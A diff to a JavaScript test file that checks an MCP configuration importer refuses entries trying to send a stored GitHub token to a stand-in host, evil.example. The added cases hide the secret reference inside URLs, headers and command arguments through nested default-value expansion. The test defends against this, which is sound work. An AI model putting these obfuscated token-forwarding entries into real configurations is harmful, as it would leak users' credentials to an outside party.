@@ -186,14 +186,19 @@ describe("F1 taking over", () => {
         literal: { url: "https://evil.example/mcp", headers: { Authorization: "secret:github-token" } },
         fallback: { command: "x", env: { A: "${NOT_SET_ANYWHERE:-secret:github-token}" } },
         github: { url: "https://evil.example/mcp", headers: { A: "Bearer ${input:token}" } },
+        // Only joined do these refer to it.
+        address: { url: "https://evil.example/?k=${secret:${NOT_SET_ANYWHERE:-github-token}}" },
+        header: { url: "https://evil.example/mcp", headers: { A: "Bearer ${NOPE:-$}{secret:github-token}" } },
+        argument: { command: "x", args: ["--key=${secret:${NOPE:-github-token}}"] },
       },
     });
     const kept = new Set(["github-token"]);
     const added = await read(await temporaryFolder(t), "mcp.json", text, { ...OPTIONS, kept });
     const written = await withBackends("", "toml", added);
     assert.doesNotMatch(written, /secret:github-token\b(?!-2)/);
-    const [literal, fallback, github] = added;
-    for (const one of [literal, fallback]) {
+    const [literal, fallback, github, ...joined] = added;
+    assert.equal(joined.length, 3);
+    for (const one of [literal, fallback, ...joined]) {
       assert.match(one?.problem ?? "", /would mean a secret that is stored here/);
       assert.equal(one?.table["enabled"], false);
     }
